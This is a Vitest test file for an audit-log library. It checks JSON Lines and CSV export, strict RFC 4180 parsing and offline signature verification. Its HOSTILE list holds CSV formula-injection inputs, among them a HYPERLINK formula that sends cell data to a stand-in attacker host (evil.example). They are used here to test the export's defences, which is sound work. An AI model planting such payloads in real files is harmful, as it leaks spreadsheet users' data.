// Read-side scenarios of export(): 5,000 events as JSON Lines against find(), CSV cells
// holding formulas, quotes, separators, line breaks and other scripts read back with a
// strict RFC 4180 parser, and the JSON Lines export (of the API and of the command line)
// checked offline with `verify --events`.
import { generateKeyPairSync, randomUUID } from 'node:crypto';
import { createWriteStream, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AuditLogEntity, fileAnchor, type AuditEvent } from '../../lib/index.js';
import { verifierKey } from '../../lib/integrity/checkpoint-note.js';
import { createTestApp, type TestApp } from '../app/create-test-app.js';
import { cli } from '../support/integrity.js';
import { rdsDatabase } from '../support/read-scenario-database.js';
import { databases, type TestDatabase } from '../support/test-database.js';

/** A strict RFC 4180 parser: CRLF record ends, quoted fields with doubled quotes, nothing else tolerated. */
export function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let i = 0;
  const n = text.length;
  if (n === 0) return records;
  for (let guard = 0; i < n && guard < 10_000_000; guard++) {
    const record: string[] = [];
    for (;;) {
      let cell = '';
      if (text[i] === '"') {
        i++;
        for (;;) {
          if (i >= n) throw new Error('unterminated quoted field');
          const c = text[i]!;
          if (c === '"') {
            if (text[i + 1] === '"') {
              cell += '"';
              i += 2;
              continue;
            }
            i++;
            break;
          }
          cell += c;
          i++;
        }
        if (i < n && text[i] !== ',' && !(text[i] === '\r' && text[i + 1] === '\n')) throw new Error(`text after a closing quote at ${i}`);
      } else {
        while (i < n && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n' && text[i] !== '"') cell += text[i++];
        if (i < n && (text[i] === '"' || text[i] === '\n' || (text[i] === '\r' && text[i + 1] !== '\n'))) {
          throw new Error(`bare ${JSON.stringify(text[i])} in an unquoted field at ${i}`);
        }
      }
      record.push(cell);
      if (text[i] === ',') {
        i++;
        continue;
      }
      break;
    }
    if (i >= n) throw new Error('last record without its CRLF');
    if (text[i] !== '\r' || text[i + 1] !== '\n') throw new Error(`expected CRLF at ${i}`);
    i += 2;
    records.push(record);
  }
  return records;
}

/** What a program reading the CSV back does (as documented): drops the leading `'` the export put before a formula-like cell. */
function unescapeCell(cell: string): string {
  // The documented reading: drop the leading ' of a cell when what follows is itself a cell that gets one.
  return cell.startsWith("'") && /^([\s"']*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|'*[\t\r])/.test(cell.slice(1)) ? cell.slice(1) : cell;
}

async function text(stream: Readable): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(Buffer.isBuffer(chunk) ? chunk : Buffer.from(String(chunk)));
  return Buffer.concat(chunks).toString('utf8');
}

/** Every event of a query, newest first, a page of 1,000 at a time (at most 50 pages). */
async function findAll(t: TestApp, query: Record<string, unknown>): Promise<AuditEvent[]> {
  const all: AuditEvent[] = [];
  let cursor: string | undefined;
  for (let i = 0; i < 50; i++) {
    const page = await t.audit.find({ ...query, limit: 1000, ...(cursor ? { cursor } : {}) });
    all.push(...page.items);
    if (!page.nextCursor) return all;
    cursor = page.nextCursor;
  }
  throw new Error('too many pages');
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1',
  '-1',
  '@x',
  '@SUM(A1:A2)',
  '\tleading tab',
  '\rleading CR',
  'say "hi"',
  'a,b,c',
  'line one\nline two',
  'line one\r\nline two',
  'ünïcödé 日本語 👩‍💻 العربية',
  ' =1+1',
  '"=1+1',
  '＝1+1',
  "'quoted already",
  "'=1+1",
  'plain text',
];

describe.each(databases())('export() scenarios on %s', (kind) => {
  let dir: string;
  let db: TestDatabase;
  let url: string[];
  let t: TestApp;
  const ORIGIN = 'audit.example.test/rds-export';
  const { privateKey } = generateKeyPairSync('ed25519');
  const VKEY = verifierKey(ORIGIN, privateKey);
  let anchorFile: string;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'audit-rds-export-'));
    anchorFile = join(dir, 'anchor.txt');
    ({ db, url } = await rdsDatabase(kind, join(dir, 'rds.sqlite')));
    t = await createTestApp({
      db,
      adapter: 'express',
      audit: { integrity: { signingKey: privateKey, origin: ORIGIN, sequenceEvery: 60_000, checkpointEvery: { events: 1_000_000 }, anchor: fileAnchor(anchorFile) } },
    });
  });
  afterAll(async () => {
    await t?.close();
    await db?.drop();
    rmSync(dir, { recursive: true, force: true });
  });

  it('exports 5,000 events as JSON Lines that parse line by line and match find()', async () => {
    const at = new Date('2026-06-01T08:00:00.000Z');
    const rows = Array.from({ length: 5000 }, (_, i) => ({
      id: randomUUID(),
      // 2,500 share one time (across the export's page of 1,000), the rest a millisecond apart.
      occurredAt: i < 2500 ? at : new Date(at.getTime() + i),
      action: 'bulk.noted',
      outcome: i % 4 ? 'success' : 'failure',
      kind: 'intent',
      actorType: 'user',
      actorId: `bulk-${i % 13}`,
      actorDisplay: i % 2 ? `Zoë ${i}` : null,
      source: 'job',
      reason: `row ${i} "quoted", \u2028 separated`,
      context: { i, nested: { list: [i, String(i)] } },
    }));
    for (let i = 0; i < rows.length; i += 250) await t.dataSource.getRepository(AuditLogEntity).insert(rows.slice(i, i + 250) as never);

    const exported = await text(t.audit.export({ action: 'bulk.noted' }));
    expect(exported.endsWith('\n')).toBe(true);
    const lines = exported.split('\n').slice(0, -1);
    expect(lines.length).toBe(5000);
    const parsed = lines.map((line, i) => {
      try {
        return JSON.parse(line) as Record<string, unknown>;
      } catch (error) {
        throw new Error(`line ${i + 1} is not JSON: ${(error as Error).message}`, { cause: error });
      }
    });
    const found = (await findAll(t, { action: 'bulk.noted' })).reverse();
    expect(parsed.map((line) => line['id'])).toEqual(found.map((e) => e.id));
    for (let i = 0; i < found.length; i += 97) {
      const [line, event] = [parsed[i]!, found[i]!];
      expect(line).toMatchObject({
        action: event.action,
        outcome: event.outcome,
        actorId: event.actor.id,
        actorDisplay: event.actor.display ?? null,
        occurredAt: event.occurredAt.toISOString(),
        reason: event.reason,
        context: event.context,
        seq: null,
      });
    }
  });

  it('writes CSV cells that a strict RFC 4180 parser reads back as stored (less the documented leading apostrophe)', async () => {
    const ids: string[] = [];
    for (const [i, value] of HOSTILE.entries()) {
      ids.push(
        await t.audit.log({
          action: 'csv.hostile',
          reason: value,
          actor: { type: 'user', id: value, display: value },
          target: { type: 'doc', id: value },
          context: { value, i },
        }),
      );
    }
    const csv = await text(t.audit.export({ action: 'csv.hostile' }, { format: 'csv' }));
    expect(csv.charCodeAt(0)).not.toBe(0xfeff);
    const records = parseCsv(csv);
    const [header, ...body] = records;
    expect(header).toEqual(expect.arrayContaining(['id', 'actor_id', 'actor_display', 'target_id', 'reason', 'context']));
    expect(body.length).toBe(HOSTILE.length);
    const column = (name: string): number => header!.indexOf(name);
    const mismatches: string[] = [];
    for (const record of body) {
      expect(record.length).toBe(header!.length);
      const i = ids.indexOf(record[column('id')]!);
      expect(i).toBeGreaterThanOrEqual(0);
      const value = HOSTILE[i]!;
      for (const name of ['reason', 'actor_id', 'actor_display', 'target_id']) {
        const cell = record[column(name)]!;
        // No cell may start as a formula once written.
        if (/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell)) mismatches.push(`${name} of ${JSON.stringify(value)} starts as a formula: ${JSON.stringify(cell)}`);
        if (unescapeCell(cell) !== value) mismatches.push(`${name} of ${JSON.stringify(value)} reads back as ${JSON.stringify(unescapeCell(cell))} (cell ${JSON.stringify(cell)})`);
      }
      expect(JSON.parse(unescapeCell(record[column('context')]!))).toEqual({ value, i });
    }
    expect(mismatches).toEqual([]);
  });

  it("keeps a stored value that starts with an apostrophe and a tab apart from one that starts with the tab", async () => {
    const withApostrophe = "'\tfrom the form";
    const withTab = '\tfrom the form';
    for (const reason of [withApostrophe, withTab]) await t.audit.log({ action: 'csv.apostrophe', reason });
    const csv = await text(t.audit.export({ action: 'csv.apostrophe' }, { format: 'csv' }));
    const [header, ...body] = parseCsv(csv);
    const cells = body.map((record) => record[header!.indexOf('reason')]!);
    // Two different stored values must not be written as the same cell.
    expect(new Set(cells).size, JSON.stringify(cells)).toBe(2);
    expect(cells.map(unescapeCell).sort()).toEqual([withApostrophe, withTab].sort());
  });

  it('round-trips the export of everything, by the API and by the command line, through verify --events', async () => {
    for (let i = 0; i < 12; i++) await t.audit.log({ action: 'order.noted', reason: `note ${i}`, target: { type: 'order', id: `rds-${i}` } });
    // Values that some line readers take for line ends, and other scripts.
    for (const reason of ['a\u2028b', 'a\u2029b', 'a\rb', 'a\r\nb', 'a\u0085b', '日本語 👩‍💻']) {
      await t.audit.log({ action: 'order.noted', reason, actor: { type: 'user', id: reason, display: reason }, context: { [reason]: reason } });
    }
    await t.audit.checkpoint();
    const fromApi = join(dir, 'api.jsonl');
    await pipeline(t.audit.export(), createWriteStream(fromApi));
    const viaApi = await cli('verify', '--events', fromApi, '--checkpoints', anchorFile, '--public-key', VKEY);
    expect(viaApi.code, viaApi.stdout + viaApi.stderr).toBe(0);
    expect(viaApi.stdout).toMatch(/^OK: /);

    const fromCli = join(dir, 'cli.jsonl');
    const exported = await cli('export', ...url, '--out', fromCli);
    expect(exported.code, exported.stderr).toBe(0);
    expect(readFileSync(fromCli, 'utf8')).toBe(readFileSync(fromApi, 'utf8'));
    const checkpoints = join(dir, 'checkpoints.txt');
    expect((await cli('checkpoints', ...url, '--out', checkpoints)).code).toBe(0);
    const viaCli = await cli('verify', '--events', fromCli, '--checkpoints', checkpoints, '--public-key', VKEY);
    expect(viaCli.code, viaCli.stdout + viaCli.stderr).toBe(0);
  });

  it('gives the same events by the command line with filters as export() with the same filters', async () => {
    const query = { action: ['csv.hostile', 'order.noted'], from: '2020-01-01T02:00:00+02:00', source: 'system' };
    const viaApi = await text(t.audit.export(query, { format: 'csv' }));
    const out = join(dir, 'filtered.csv');
    const run = await cli('export', ...url, '--format', 'csv', '--action', 'csv.hostile', '--action', 'order.noted', '--since', '2020-01-01T02:00:00+02:00', '--source', 'system', '--out', out);
    expect(run.code, run.stderr).toBe(0);
    expect(readFileSync(out, 'utf8')).toBe(viaApi);
    expect(parseCsv(viaApi).length).toBeGreaterThan(1);
  });

  it('refuses export options and filters it cannot use, at once', () => {
    expect(() => t.audit.export({}, { format: 'xlsx' as never })).toThrow(/format/);
    expect(() => t.audit.export({ limit: 10 } as never)).toThrow(/limit/);
    expect(() => t.audit.export({ outcome: 'ok' } as never)).toThrow(/outcome/);
    expect(() => t.audit.export({ from: 'yesterday' })).toThrow(/from/);
  });
});
